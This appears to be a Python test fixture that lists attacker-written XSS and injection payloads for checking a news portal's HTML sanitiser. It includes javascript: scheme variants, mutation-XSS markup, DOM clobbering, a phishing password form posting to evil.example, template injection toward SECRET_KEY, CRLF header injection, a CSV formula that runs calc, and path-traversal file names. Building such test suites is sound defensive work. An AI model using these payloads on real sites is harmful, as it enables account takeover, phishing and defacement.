"""What an attacker with an editor's account writes: markup, text and files that try to run, to leave or to cover the page.

Whatever runs calls `fired`, which the tests give to every page; whatever leaves asks evil.example.
"""

RUN = "fired()"
HOST = "evil.example"
PICTURE = "/media/anh/2020/03/0123456789abcdef01234567-1400x800.webp"

SCHEMES = [  # javascript: and its kin in the spellings that browsers understand, or once did
    f"javascript:{RUN}",
    f"JaVaScRiPt:{RUN}",
    f" \t\n javascript:{RUN}",
    f"java\tscript:{RUN}",
    f"java\nscript:{RUN}",
    f"java\r\nscript:{RUN}",
    f"&#1;javascript:{RUN}",
    f"&#x6A;avascript&#58;{RUN}",
    f"&#0000106avascript:{RUN}",
    f"javascript&colon;{RUN}",
    f"java&Tab;script&NewLine;:{RUN}",
    f"javascript://{HOST}/%0a{RUN}",
    f"javascript:/*--></title></style></textarea></script><svg/onload='+/'/+/onmouseover=1/+/[*/[]/+{RUN}//'>",
    f"vbscript:{RUN}",
    f"data:text/html,<script>{RUN}</script>",
    "data:text/html;base64,PHNjcmlwdD5maXJlZCgpPC9zY3JpcHQ+",
    f"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='{RUN}'/>",
    f"blob:https://{HOST}/1",
    f"view-source:javascript:{RUN}",
    f"jar:http://{HOST}!/x.html",
    "file:///etc/passwd",
    f"feed:javascript:{RUN}",
    f"\u200bjavascript:{RUN}",
    f"\u3000javascript:{RUN}",
]
LEAVING = [
    f"//{HOST}/",
    f"\\\\{HOST}/",
    f"/\\{HOST}/",
    f" //{HOST}/",
    f"\t//{HOST}/",
    f"/\t/{HOST}/",
    f"/&#10;\\{HOST}/",
]
HANDLERS = (
    "click dblclick error load mouseover focus blur animationstart transitionend toggle beforetoggle wheel copy".split()
)
HANDLERS += "pointerenter input change submit reset scroll contextmenu begin end repeat beforescriptexecute".split()

MARKUP = [
    f"<script>{RUN}</script>",
    f"<ScRiPt/x>{RUN}</sCrIpT >",
    f"<scr<script>ipt>{RUN}</scr</script>ipt>",
    f"<script src=//{HOST}/x.js></script>",
    f"<script type=application/ld+json>{{}}</script><script>{RUN}</script>",
    f"<<script>{RUN}//<</script>",
    f"<img src=x onerror={RUN}>",
    f"<img/src=x/onerror={RUN}>",
    f"<img src=x\x0conerror={RUN}>",
    f"<img \x00src=x o\x00nerror={RUN}>",
    f"<img src=`x`onerror={RUN}>",
    f'<img src="x" alt="`` onerror={RUN}">',
    f"<img src={PICTURE} alt='\" onerror={RUN} x=\"'>",
    f"<img src={PICTURE} alt='&quot; onerror={RUN} &gt;<script>{RUN}</script>'>",
    f"<img src={PICTURE} title=x srcset='//{HOST}/s.png 2x' sizes=100vw>",
    f"<img src=//{HOST}/p.png><img srcset=https://{HOST}/p.png><image href=//{HOST}/p.png>",
    f"<picture><source srcset=//{HOST}/p.png><img src={PICTURE}></picture>",
    f"<video src=//{HOST}/v.mp4 poster=//{HOST}/p.png autoplay onplay={RUN}></video><audio src=//{HOST}/a.mp3 autoplay>",
    f"<svg onload={RUN}><image href=//{HOST}/p.png /></svg>",
    f"<svg><script>{RUN}</script></svg><svg><script href='data:,{RUN}'/></svg>",
    f"<svg><animate onbegin={RUN} attributeName=x dur=1s>",
    f"<svg><a><animate attributeName=href values=javascript:{RUN} /><text x=20 y=20>x</text></a></svg>",
    f"<svg><foreignObject><body onload={RUN}><iframe srcdoc='<script>parent.{RUN}</script>'></foreignObject></svg>",
    f"<svg><use href='data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><script>{RUN}</script></svg>#x'/></svg>",
    f"<math><a xlink:href=javascript:{RUN}>x</a><maction actiontype=statusline xlink:href=javascript:{RUN}>x</maction></math>",
    # What one parser reads as text and another as tags.
    f"<svg></p><style><a id='</style><img src=1 onerror={RUN}>'>",
    f"<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror={RUN}&gt;'>",
    f"<form><math><mtext></form><form><mglyph><style></math><img src onerror={RUN}>",
    f"<noscript><p title='</noscript><img src=x onerror={RUN}>'>",
    f"<template><p title='</template><img src=x onerror={RUN}>'>",
    f"<title><p title='</title><img src=x onerror={RUN}>'>",
    f"<textarea><p title='</textarea><img src=x onerror={RUN}>'>",
    f"<xmp><p title='</xmp><img src=x onerror={RUN}>'>",
    f"<noembed><p title='</noembed><img src=x onerror={RUN}>'>",
    f"<iframe><p title='</iframe><img src=x onerror={RUN}>'>",
    f"<select><style><option title='</style></select><img src=x onerror={RUN}>'>",
    f"<style><!--</style><img src=x onerror={RUN}>--></style>",
    f"<!--><img src=x onerror={RUN}>--><!--!><img src=x onerror={RUN}>--!>",
    f"<![CDATA[<img src=x onerror={RUN}>]]><?php <img src=x onerror={RUN}> ?><!x><img src=x onerror={RUN}>",
    f"<svg><![CDATA[</svg><img src=x onerror={RUN}>]]></svg>",
    f"<p><b>&#824;<img src=x onerror={RUN}></b><b\u0338><i \u0338onclick={RUN}>x</i>",
    f"<p title='a<b>c' lang='\"><img src=x onerror={RUN}>'>&lt;img src=x onerror={RUN}&gt;</p>",
    f"<code>&amp;lt;img src=x onerror={RUN}&amp;gt;</code>",
    f'<table><tr><td>a<caption>"><img src=x onerror={RUN}></caption></table>',
    f"<table><caption>' onfocus={RUN} autofocus tabindex=0 x='\" onfocus={RUN} x=\"</caption><tr><td>a<td>b</table>",
    # Documents within the document, and ways out of it.
    f"<iframe src=javascript:{RUN}></iframe><iframe srcdoc='<script>parent.{RUN}</script>'></iframe>",
    f"<frameset><frame src=//{HOST}/></frameset><object data=//{HOST}/x.swf></object><embed src=javascript:{RUN}>",
    f"<portal src=//{HOST}/><fencedframe src=//{HOST}/></fencedframe><applet code=x>",
    f"<base href=//{HOST}/><meta http-equiv=refresh content='0;url=//{HOST}/'>",
    f"<meta http-equiv=refresh content='0;url=javascript:{RUN}'><meta http-equiv=Set-Cookie content=sessionid=evil>",
    f"<link rel=stylesheet href=//{HOST}/x.css><link rel=prefetch href=//{HOST}/><link rel=import href=//{HOST}/>",
    f"<style>@import '//{HOST}/x.css'; body{{display:none}} *{{background:url(//{HOST}/b.png)}}</style>",
    f"<body onload={RUN} background=//{HOST}/b.png><html manifest=//{HOST}/m>",
    f"<a href=https://example.gov.vn ping=//{HOST}/ping target=_blank download onclick={RUN}>x</a>",
    f"<details open ontoggle={RUN}><summary>x</summary></details><marquee onstart={RUN}>x</marquee>",
    f"<input autofocus onfocus={RUN}><select autofocus onfocus={RUN}><textarea autofocus onfocus={RUN}></textarea>",
    f"<keygen autofocus onfocus={RUN}><isindex type=image src=1 onerror={RUN}><dialog open oncancel={RUN}>x</dialog>",
    # A form of the attacker's in the page, or in the form of the admin.
    f"<form action=//{HOST}/ id=article_form><input name=password type=password><button formaction=//{HOST}/>Đăng nhập",
    "<input name=csrfmiddlewaretoken value=evil><button form=article_form name=_publish>x</button><label for=id_title>x",
    "</textarea></form><form action=/admin/logout/ method=post><button>Đăng xuất</button></form>",
    # Names that scripts of the portal look for.
    "<table><tr><th id=session-end>a<th id=session-end-text>b<th id=send-again>c<th id=id_title>d<th id=csrfmiddlewaretoken>e"
    "<th id=noi-dung>f<th id=dau-trang>g<th id=django>h<th id=CKEDITOR>i<th id=CKEDITOR_BASEPATH>k<td headers='noi-dung x'>l</table>",
    "<p id=noi-dung name=body><img name=cookie id=documentElement><a id=location name=location href=x>x</a>",
    "<form id=body name=querySelectorAll><input name=attributes><input id=addEventListener></form>",
    "<p data-start=1 data-embed=//evil.example data-inverts data-print data-copy=x data-do=drop hidden>x</p>",
    "<div class='toolbar' role=toolbar><span class=skip>a</span><span class=visually-hidden>b</span><p class=player-open>c</p></div>",
    # Ways to cover the page.
    f"<div style='position:fixed;inset:0;z-index:9999;background:url(//{HOST}/o.png)'><a href=https://{HOST}/>x</a></div>",
    "<p style='position:absolute;top:-900px;font-size:900px'>x</p><p style='margin-top:-99999px'>y</p>",
    f"<p style=\"width:expression({RUN});behavior:url(#x);-moz-binding:url(//{HOST}/x.xml#x);background:url('javascript:{RUN}')\">x",
    "<div class='skip player-open visually-hidden masthead video-length module submenu cke_dialog selector'>x</div>",
    f"<font size=7 color=red><center><big><h1>x</h1></big></center></font><p align=right width=9999 height=9999>x<img src={PICTURE} width=9999 height=9999>",
    "<p popover=manual id=p>x</p><button popovertarget=p>y</button><p contenteditable autofocus tabindex=1 accesskey=s inert>z",
    "<slot></slot><p slot=x is=x-y part=z>a</p><template shadowrootmode=open><slot></slot></template>",
    # Text that templates, feeds and readers could misread.
    "<p>{{ settings.SECRET_KEY }} {% include 'admin/base.html' %} ${7*7} #{7*7} <%= 7*7 %></p>",
    '<p>]]&gt;&lt;/description&gt;&lt;script xmlns="http://www.w3.org/1999/xhtml"&gt;fired()&lt;/script&gt;</p>',
    "<p>\u202eevil.txt\u202c \u2066\u2067a\u2069 \u200b\u200d\ufeff b\u2028c\u2029d \ufffe\uffff \U000e0041</p>",
    "<p>" + "a" + "\u0301\u0323\u0330" * 20 + "</p>",
    "<p>" + "W" * 3_000 + "</p>",
]
MARKUP += [f'<a href="{scheme}">x</a>' for scheme in [*SCHEMES, *LEAVING]]
MARKUP += [f'<img src="{scheme}" alt=x><q cite="{scheme}">x</q>' for scheme in SCHEMES]
MARKUP += [f"<p on{name}={RUN}>x</p><h2\non{name}\n=\n'{RUN}'>x</h2>" for name in HANDLERS]

LINES = [  # for every field of one line or paragraph; each is cut to what the field holds
    f'"><img src=x onerror={RUN}>',
    f"'><script>{RUN}</script>",
    f"</title></textarea></script><svg onload={RUN}>",
    f"\" autofocus onfocus={RUN} x=\"' onmouseover={RUN} x='",
    f"<!--<script>{RUN}</script>--> ]]><script>{RUN}</script>",
    "{{ 7|add:7 }}{% load static %}{% debug %}{{ settings.SECRET_KEY }}",
    "a\r\nSet-Cookie: evil=1\r\n\r\n<script>fired()</script>",
    "\u202egnp.\u2066exe\u2069 \u200bvi\u200dru\ufeffs\u2028x\u2029y \ufffe\uffff\U000e0041",
    f"javascript:{RUN}",
    "=cmd|' /C calc'!A0;=1+1\t@SUM(1)",
    "&lt;script&gt;fired()&lt;/script&gt; &amp;quot; &#x3c;b&#x3e;",
    '\\u003cscript\\u003efired()\\x3c/script\\x3e \\"};fired();//',
]
CAPTIONS = f"""WEBVTT

STYLE
::cue {{ background: url(//{HOST}/c.png) }}

REGION
id:x width:100%

NOTE <script>{RUN}</script>

00:00.000 --> 00:09.000 position:-100% line:0 size:999%
<v <img src=x onerror={RUN}>>Xin <c.x onclick={RUN}>chào</c> <img src=x onerror={RUN}><b onclick={RUN}>quý vị</b> &lt;img src=x onerror={RUN}&gt;

00:10.000 --> 00:12.000
<script>{RUN}</script>Tạm biệt.
"""
NAMES = [  # of files
    f'"><img src=x onerror={RUN}>.pdf',
    "../../../etc/passwd.pdf",
    "a\r\nSet-Cookie: evil=1.pdf",
    "\u202efdp.exe.pdf",
    'x";filename=evil.html;y=".pdf',
    "a%0d%0aX: y%2f..%2f.pdf",
    "con.pdf",
]
HTML = f"<!doctype html><script>{RUN}</script><img src=x onerror={RUN}>".encode()
SVG = f'<svg xmlns="http://www.w3.org/2000/svg" onload="{RUN}"><script>{RUN}</script></svg>'.encode()
